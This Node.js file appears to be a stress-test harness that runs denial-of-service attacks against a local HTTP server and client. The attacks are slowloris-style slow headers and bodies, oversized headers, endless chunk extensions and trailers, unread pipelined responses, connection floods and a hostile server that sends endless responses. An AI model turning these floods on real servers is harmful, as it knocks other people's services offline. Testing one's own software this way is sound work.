'use strict';

// Attacks on a server or a client, each of which goes on until it is told to stop. As a separate program,
//   node attacks.js NAME PORT [CONNECTIONS]
// attacks the server at PORT until its standard input ends, or until it has made that many connections. It prints what
// it did: connections made, bytes sent, connections that were closed.

const net = require('node:net');

const HOST = '127.0.0.1';
const MANY = 400;
const FEW = 8;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

const POST = 'POST / HTTP/1.1\r\nHost: a\r\n';
const CHUNKED = `${POST}Transfer-Encoding: chunked\r\n\r\n`;
const OK = 'HTTP/1.1 200 OK\r\n';

/** Connections a second, and the most open at once, for the attack whose speed does not depend on the server's. */
const PACE = 6000;
const PACED = 24;

class Attack {
  constructor(port, most = Infinity) {
    this.port = port;
    this.most = most;
    this.stopped = false;
    this.made = 0;
    this.sent = 0;
    this.closed = 0;
    this.sockets = new Set();
  }

  // A connection; undefined if none can be opened.
  open() {
    return new Promise((resolve) => {
      const socket = net.connect({ port: this.port, host: HOST, noDelay: true });
      this.made++;
      this.sockets.add(socket);
      socket.on('connect', () => resolve(socket));
      socket.on('error', () => {});
      socket.on('close', () => {
        this.sockets.delete(socket);
        this.closed++;
        resolve(undefined);
      });
    });
  }

  // Sends, and waits while the peer takes no more.
  async send(socket, data) {
    this.sent += data.length;
    if (socket.destroyed || socket.write(data, 'latin1')) return;
    await new Promise((resolve) => {
      socket.once('drain', resolve);
      socket.once('close', resolve);
      this.release = resolve;
      setTimeout(resolve, 200);
    });
  }

  // `count` connections, each of which sends `first`, then `rest` again and again, and starts over when it is closed.
  async run(count, first, rest, { gap = 0, read = true } = {}) {
    const one = async () => {
      while (!this.stopped && this.made < this.most) {
        const socket = await this.open();
        if (socket === undefined) {
          await pause(10);
          continue;
        }
        if (read) socket.resume();
        else socket.pause();
        await this.send(socket, first);
        while (!this.stopped && !socket.destroyed && socket.writable) {
          if (rest === undefined) break;
          if (socket.writableLength < 1 << 20) await this.send(socket, rest);
          await pause(gap);
        }
        if (rest === undefined && !socket.destroyed) await new Promise((resolve) => socket.once('close', resolve));
      }
    };
    const all = [];
    for (let n = 0; n < count; n++) all.push(one());
    await Promise.all(all);
  }

  // Connections with a request each, PACE a second for every server that can take as many.
  async pace(request) {
    const start = performance.now();
    let begun = 0;
    const one = async () => {
      while (!this.stopped && this.made < this.most) {
        const due = start + begun++ * 1000 / PACE;
        while (performance.now() < due) await pause(1);
        const socket = await this.open();
        if (socket === undefined) continue;
        socket.resume();
        await this.send(socket, request);
        if (!socket.destroyed) await new Promise((resolve) => socket.once('close', resolve));
      }
    };
    await Promise.all(Array.from({ length: PACED }, one));
  }

  stop() {
    this.stopped = true;
    for (const socket of this.sockets) socket.destroy();
  }
}

/** Attacks on a server: `(attack) => Promise`, which ends after `attack.stop()`. */
const ON_SERVER = {
  'slow heads': (attack) => attack.run(MANY, 'GET / HTTP/1.1\r\nHost: a\r\nX: ', 'x', { gap: 50 }),
  'slow bodies': (attack) => attack.run(MANY, `${POST}Content-Length: 1000000\r\n\r\n`, 'x', { gap: 50 }),
  'heads of 50,000 bytes': (attack) => attack.run(FEW, `GET / HTTP/1.1\r\nHost: a\r\n${'abcd: efgh\r\n'.repeat(4200)}`),
  'answers never read': (attack) => attack.run(FEW, 'GET /big HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(500), 'GET /big HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(500), { gap: 1, read: false }),
  'small answers never read': (attack) => attack.run(FEW, 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(500), 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(500), { gap: 1, read: false }),
  'chunks of 1 byte': (attack) => attack.run(FEW, CHUNKED, '1\r\nx\r\n'.repeat(2700), { gap: 1 }),
  'chunk extensions': (attack) => attack.run(FEW, CHUNKED, `1;${'a'.repeat(16000)}\r\nx\r\n`, { gap: 1 }),
  'an extension without end': (attack) => attack.run(FEW, `${CHUNKED}1;`, 'a'.repeat(16000)),
  'trailers without end': (attack) => attack.run(FEW, `${CHUNKED}0\r\n`, 'abcd: efgh\r\n'.repeat(400)),
  'empty lines': (attack) => attack.run(FEW, '\r\n', '\r\n'.repeat(8000), { gap: 1 }),
  'one connection after another': (attack) => attack.run(FEW, 'GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
  'connections at a pace': (attack) => attack.pace('GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
  'no request at all': (attack) => attack.run(FEW, 'x\r\n\r\n'),
};

// A server that answers with `first`, and then with `rest` as long as the connection is open.
function hostile(first, rest, gap) {
  return async (attack) => {
    const server = net.createServer({ noDelay: true }, async (socket) => {
      attack.made++;
      attack.sockets.add(socket);
      socket.on('error', () => {});
      socket.on('close', () => {
        attack.sockets.delete(socket);
        attack.closed++;
      });
      socket.resume();
      for (const byte of first) {
        await attack.send(socket, byte);
        await new Promise(setImmediate);
      }
      while (!attack.stopped && !socket.destroyed) {
        if (socket.writableLength < 1 << 20) await attack.send(socket, rest);
        await pause(gap);
      }
    });
    await new Promise((resolve) => { server.listen(0, HOST, resolve); });
    // Tells the program to send a request to this server.
    const urging = net.connect(attack.port, HOST);
    urging.on('error', () => {});
    while (!attack.stopped) {
      if (!urging.destroyed && urging.writableLength === 0) urging.write(`GET /ask?${server.address().port} HTTP/1.1\r\nHost: a\r\n\r\n`);
      urging.resume();
      await pause(20);
    }
    urging.destroy();
    server.close();
  };
}

/** Attacks on the client in a program: it is told to make requests to a server that does this. */
const ON_CLIENT = {
  'client: answers in 1-byte writes': hostile(`${OK}Transfer-Encoding: chunked\r\n\r\n`, '1\r\nx\r\n', 1),
  'client: a head without end': hostile([OK], 'abcd: efgh\r\n'.repeat(400), 1),
  'client: a head that never ends': hostile(`${OK}X: y`, 'x', 50),
  'client: 1xx without end': hostile([''], 'HTTP/1.1 100 Continue\r\n\r\n'.repeat(100), 1),
};

const ATTACKS = { ...ON_SERVER, ...ON_CLIENT };

/**
 * Starts an attack.
 * @param {string} name
 * @param {number} port of the server, or of the program whose client is attacked
 * @param {number} [most] connections to make
 * @returns {{attack: Attack, over: Promise<void>}}
 */
function begin(name, port, most) {
  const attack = new Attack(port, most);
  return { attack, over: ATTACKS[name](attack) };
}

if (require.main === module) {
  const [name, port, most] = process.argv.slice(2);
  const { attack, over } = begin(name, Number(port), most && Number(most));
  let told = false;
  const tell = () => {
    if (!told) console.log(JSON.stringify({ made: attack.made, sent: attack.sent, closed: attack.closed }));
    told = true;
  };
  over.then(tell);
  process.stdin.on('end', () => {
    tell();
    attack.stop();
    setTimeout(() => process.exit(0), 50);
  });
  process.stdin.resume();
}

module.exports = { ATTACKS };
